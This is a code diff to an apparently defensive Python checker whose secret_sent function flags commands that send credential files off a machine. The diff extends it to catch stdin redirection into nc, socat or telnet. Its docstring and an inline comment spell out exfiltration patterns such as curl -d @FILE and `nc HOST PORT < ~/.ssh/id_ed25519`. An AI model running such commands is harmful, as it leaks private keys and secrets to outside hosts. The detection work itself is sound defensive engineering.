@@ -16,6 +16,7 @@ import os
 import re
 
 import targets
+from _common.shell import render
 import tool_state
 
 # ---------------------------------------------------------------- docker
@@ -584,7 +585,8 @@ def credential(path):
 def secret_sent(command, where):
     """A credential file that exists and is not empty, sent off the machine: ``curl -d @FILE``,
     ``-F f=@FILE``, ``-T FILE``, ``wget --post-file=FILE``; ``scp``/``sftp``/``rsync``/``rclone``
-    of it to a host (``HOST:PATH``); or read by the command piped into ``nc``/``socat``/``telnet``,
+    of it to a host (``HOST:PATH``); redirected into ``nc``/``socat``/``telnet`` (``< FILE``); or
+    read by the command piped into ``nc``/``socat``/``telnet``,
     or into a ``curl`` that sends its stdin (``-d @-``, ``-T -``). Reading or printing one is
     advice only (the advisory's rows)."""
     argv = command.argv
@@ -599,6 +601,8 @@ def secret_sent(command, where):
         if len(operands) >= 2 and _remote(operands[-1]):
             sent = operands[:-1]
     stdin = "-" in sent or program in _NETWORK_STDIN
+    if program in _NETWORK_STDIN and command.stdin:  # `nc HOST PORT < ~/.ssh/id_ed25519`
+        sent = sent + [render(command.stdin)]
     lost = _credentials(sent, where)
     feeder = getattr(where, "feeder", None)
     if stdin and feeder is not None:
